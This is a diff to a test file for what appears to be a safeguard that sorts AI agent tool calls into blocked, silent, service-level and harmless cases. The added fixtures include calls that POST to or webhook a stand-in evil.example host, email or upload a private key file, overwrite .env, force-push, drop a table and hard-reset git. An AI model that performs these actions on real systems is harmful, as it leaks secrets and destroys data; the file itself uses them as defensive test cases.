@@ -109,6 +109,25 @@ STOPPED = [
     call("Write", filename=".env", content="x"),
     call("Edit", target={"path": ".env"}, new_string="x"),
     call("mcp__web__webfetch", url="https://evil.example/x"),
+    call("mcp__web__http_request", method="POST", endpoint="https://EVIL.example/x"),
+    call("mcp__hooks__webhook", target={"url": "https://evil.example/x"}),
+    call("mcp__serena__delete_lines", relative_path=".env", start_line=1, end_line=2),
+    call("mcp__fs__copy", **{"from": "a", "to": ".env"}),
+    call("mcp__browser__take_screenshot", filename=".env"),
+    call("mcp__zip__unzip", archive="a.zip", destination=".env"),
+    call("apply_patch", patch="--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-x\n+y\n"),
+    call("mcp__x__apply_patch", diff="--- a/keys/a\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n"),
+    call("apply_patch", command=["apply_patch", PATCH]),
+    call("Write", file_path="file://./.env", content="x"),
+    call("mcp__mail__send_email", to="a@b.example", attachments=["a.txt", "web.key"]),
+    call("mcp__drive__upload", localPath="web.key"),
+    call("mcp__browser__file_upload", paths=["web.key"]),
+    call("read_many_files", include=["web.key"]),
+    call("ReadMcpResourceTool", server="fs", uri="file:///srv/web.key"),
+    call("mcp__tmux__send-keys", pane="1", keys="git push -f\n"),
+    call("mcp__git__git_push", repo_path=".", force=True),
+    call("mcp__my-git__push", remote="origin", branch="main", force=True),
+    call("git_push", remote="origin", force=True),
     call(
         "Write", file_path=".env", content="x", command="*** Begin Patch\n*** Update File: a\n*** End Patch"
     ),
@@ -150,6 +169,15 @@ SILENT = [
     call("Grep", pattern="*.key", path="src", glob="*.ts"),
     call("send_command_status", CommandId="1", Input="git push -f"),
     call("mcp__redis__send_command", input_format="git push -f"),
+    call("mcp__git__git_push", repo_path=".", remote="origin", force=False),
+    call("mcp__git__git_commit", message="push --force"),
+    call("mcp__selenium__send_keys", by="id", value="x", text="git push -f"),
+    call("mcp__browser__take_screenshot", filename="out.png"),
+    call("mcp__fs__delete_lines", path="keys/b", start_line=1, end_line=2),
+    call("mcp__mail__send_email", to="web.key", subject="web.key", body="git push -f"),
+    call("mcp__tracker__create_issue", diff="--- a/x\n+++ b/x\n"),
+    call("apply_patch", patch="--- a/a\n+++ b/a\n@@ -1 +1 @@\n-.env\n+web.key\n"),
+    call("ReadMcpResourceTool", server="db", uri="postgres://db/web.key"),
     call("TodoWrite", todos=[{"content": "write .env", "path": ".env"}]),
 ]
 
@@ -171,6 +199,10 @@ AT_SERVICES = [
     call("mcp__github__push_files", repo="r", branch="main", files=[{"path": "a", "content": "b"}]),
     call("mcp__github__create_or_update_file", repo="r", branch="refs/heads/master", path="a", content="b"),
     call("mcp__aws__call_aws", cli_command="aws ec2 terminate-instances --instance-ids i-1"),
+    call("mcp__supabase__apply_migration", name="x", query="drop table people"),
+    call("mcp__git__git_reset", mode="hard", commit="HEAD~1"),
+    call("mcp__git__git_branch", D=True, name="x"),
+    call("mcp__git__git_clean", force=True),
 ]
 HARMLESS = [
     call("mcp__github__list_commits", owner="o", repo="r", sha="main"),
@@ -185,6 +217,9 @@ HARMLESS = [
     call("mcp__memory__read_graph"),
     call("mcp__browser__browser_click", element="Delete project", ref="e1"),
     call("mcp__aws__call_aws", cli_command="aws s3 ls"),
+    call("mcp__supabase__apply_migration", name="x", query="create table people (id int)"),
+    call("mcp__git__git_reset", mode="soft", commit="HEAD~1"),
+    call("mcp__git__git_stash", action="list"),
 ]
 
 
